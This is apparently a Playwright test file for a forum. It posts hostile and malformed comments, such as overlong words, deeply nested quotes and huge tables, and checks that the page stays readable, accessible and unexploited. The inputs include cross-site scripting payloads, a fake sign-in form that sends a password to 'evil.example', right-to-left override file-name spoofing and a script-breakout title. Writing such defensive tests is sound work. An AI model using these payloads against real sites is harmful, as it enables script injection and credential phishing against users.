import {
  expectAccessible,
  expectNoSidewaysScroll,
  waitForScripts,
} from "../support/expectations.ts";
import { makeDiscussion, say } from "../support/forum.ts";
import { expect, test } from "../support/test.ts";

const pictures = (count: number) => "![x](/icon.svg) ".repeat(count);
const quoted = (levels: number) => `${"> ".repeat(levels)}at the bottom`;

/** What people post to break a page. */
const hostile: Readonly<Record<string, string>> = {
  "a word without end": "W".repeat(200),
  "an endless address": `https://example.com/${"a/".repeat(150)}`,
  "code of many lines": `\`\`\`js\n${"x = 1\n".repeat(8_000)}\`\`\``,
  "many images": pictures(1_000),
  "quotes in quotes": quoted(60),
  "lists in lists": Array.from({ length: 30 }, (_, level) => `${"  ".repeat(level)}- level`).join(
    "\n",
  ),
  "a wide table": `| ${"cell | ".repeat(40)}\n|${"-|".repeat(40)}\n| ${"cell | ".repeat(40)}`,
  "tasks and a wide formula": `- [ ] one\n- [x] two\n\n$$${"x + ".repeat(100)}y$$`,
  "letters piled up": `Z${"\u0335\u0321\u031b".repeat(400)}algo`,
  "text turned around": "\u202Egnp.exe \u2067 not closed",
  "markup that nobody rendered": `Words <img src=x onerror="window.__hit=1"><style>*{display:none}</style><script>window.__hit=1</script>`,
  "a form": `Words <form action="https://evil.example"><input name="password"><button>Sign in</button></form>`,
};

test("A20: Whatever is posted, the page stays calm", async ({ page, site }) => {
  const { discussionID, url } = await makeDiscussion(site, `Hostile ${"x".repeat(60)}`, []);
  const newTagNames = ["T".repeat(60), "\u0645\u0631\u062d\u0628\u0627"];
  await site.call("PATCH", `/discussions/${discussionID}`, { newTagNames });
  const said = new Map<string, number>();
  for (const [name, body] of Object.entries(hostile))
    said.set(name, await say(site, discussionID, body));
  const last = await say(site, discussionID, "The last comment is readable");
  for (const width of [1280, 375]) {
    await page.setViewportSize({ width, height: 800 });
    await page.goto(url);
    await waitForScripts(page);
    await expectNoSidewaysScroll(page);
    await expect(page.getByText("The last comment is readable")).toBeVisible();
    const box = await page.locator(`#Comment_${last}`).boundingBox();
    expect(box?.width).toBeGreaterThan(200);
    // Nobody's post takes the page for itself.
    expect(box?.y).toBeLessThan(60_000);
  }
  expect(await page.evaluate(() => "__hit" in window)).toBe(false);
  await expect(page.locator("main form[action*=evil]")).toHaveCount(0);
  // Axe compares each picture of a paragraph with all others, which for a thousand takes half a minute.
  await site.call("PATCH", `/comments/${said.get("many images")}`, { body: pictures(100) });
  await page.reload();
  await waitForScripts(page);
  await expect(page.locator(".userContent img")).toHaveCount(60);
  await expectAccessible(page);
});

test("A20: Revisions show what turns a text around, and are not turned themselves", async ({
  page,
  site,
}) => {
  const { discussionID } = await makeDiscussion(site, "Turned later", []);
  await site.call("PATCH", `/discussions/${discussionID}`, { body: "\u202Egnp.exe \u2067 open" });
  await page.context().addCookies(site.cookies);
  await page.goto(`/log/filter?recordType=discussion&recordID=${discussionID}`);
  const revisions = page.getByRole("main");
  await expect(revisions.getByText("U+202E", { exact: true })).toBeVisible();
  await expect(revisions.getByText("U+2067", { exact: true })).toBeVisible();
  await expect(revisions).not.toContainText(/[\u202e\u2067]/);
  await expectAccessible(page);
});

test("A12: A title that would break out of scripts is only text", async ({ page, site }) => {
  const title = "</script><script>window.__hit=1</script><!-- {{7*7}} ]]>";
  const { categoryID } = await makeDiscussion(site, "Break out", []);
  const post = { name: title, body: "x", format: "markdown", categoryID };
  const { url } = (await site.call("POST", "/discussions", post)) as { url: string };
  for (const address of [url, "/categories/break-out", "/discussions"]) {
    await page.goto(address);
    await waitForScripts(page);
    expect(await page.evaluate(() => "__hit" in window)).toBe(false);
    for (const data of await page.locator('script[type="application/ld+json"]').allTextContents())
      JSON.parse(data);
  }
  await page.goto(url);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(title);
});
